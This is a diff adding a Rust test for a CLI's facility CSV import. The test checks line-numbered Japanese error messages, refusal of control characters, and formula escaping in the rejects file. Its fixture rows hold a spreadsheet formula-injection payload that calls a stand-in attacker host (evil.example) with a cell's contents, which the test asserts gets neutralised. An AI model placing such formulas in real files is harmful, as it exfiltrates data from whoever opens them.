@@ -338,3 +338,48 @@ async fn a_generated_data_set_imports_cleanly_and_gives_plausible_rates() {
     assert!(result["discharge"]["died"].as_i64().unwrap() > 0);
     std::fs::remove_dir_all(dir).unwrap();
 }
+
+/// A file Excel saved (CRLF, Shift_JIS) whose bad rows are reported by the line a person sees
+/// there; its rejects file opens with every cell as text; a name with a control character is
+/// refused.
+#[tokio::test]
+async fn import_errors_name_the_line_people_see_and_the_rejects_file_runs_nothing() {
+    let database = TestDatabase::new();
+    let dir = std::env::temp_dir().join(format!("renkei-import-{}", uuid::Uuid::new_v4().simple()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let rows = [
+        "code,name,kind,area,in_city",
+        "H01,連携病院,hospital,中央圏域,true",
+        "H02,=HYPERLINK(\"http://evil.example/\"&A1),clinic,中央圏域,true",
+        "\"K01\",\"さくら\n居宅\",care_office,,true",
+        "K02,あおば居宅,care_office,+AREA,maybe",
+        "K03,\"みどり\t居宅\",care_office,,true",
+    ];
+    for (name, end, shift_jis) in [("lf.csv", "\n", false), ("crlf.csv", "\r\n", false), ("excel.csv", "\r\n", true)] {
+        let text = rows.join(end) + end;
+        let bytes = if shift_jis { encoding_rs::SHIFT_JIS.encode(&text).0.into_owned() } else { text.into_bytes() };
+        let file = dir.join(name);
+        std::fs::write(&file, bytes).unwrap();
+        let (code, _, stderr) = run(&database, &["import", "facilities", file.to_str().unwrap()]).await;
+        assert_ne!(code, 0, "{name}");
+        // The quoted line break makes the fourth row take lines 4 and 5.
+        for expected in
+            ["3 行目: kind", "4 行目: name", "6 行目: in_city", "7 行目: name: 改行やタブなどの制御文字は使えません"]
+        {
+            assert!(stderr.contains(expected), "{name}: {expected} missing from: {stderr}");
+        }
+        assert!(!stderr.contains("2 行目"), "{name}: {stderr}");
+    }
+    let file = dir.join("crlf.csv");
+    let (code, stdout, _) = run(&database, &["import", "facilities", file.to_str().unwrap(), "--skip-invalid"]).await;
+    assert_eq!(code, 0, "{stdout}");
+    let rejects = std::fs::read(dir.join("crlf.rejected.csv")).unwrap();
+    let text = String::from_utf8(rejects.strip_prefix(b"\xEF\xBB\xBF".as_slice()).unwrap().to_vec()).unwrap();
+    let mut reader = csv::ReaderBuilder::new().has_headers(true).flexible(true).from_reader(text.as_bytes());
+    let cells: Vec<String> =
+        reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
+    assert!(cells.contains(&"'=HYPERLINK(\"http://evil.example/\"&A1)".to_owned()), "{cells:?}");
+    assert!(cells.contains(&"'+AREA".to_owned()), "{cells:?}");
+    assert!(!cells.iter().any(|c| c.starts_with(['=', '+', '-', '@'])), "{cells:?}");
+    std::fs::remove_dir_all(dir).unwrap();
+}
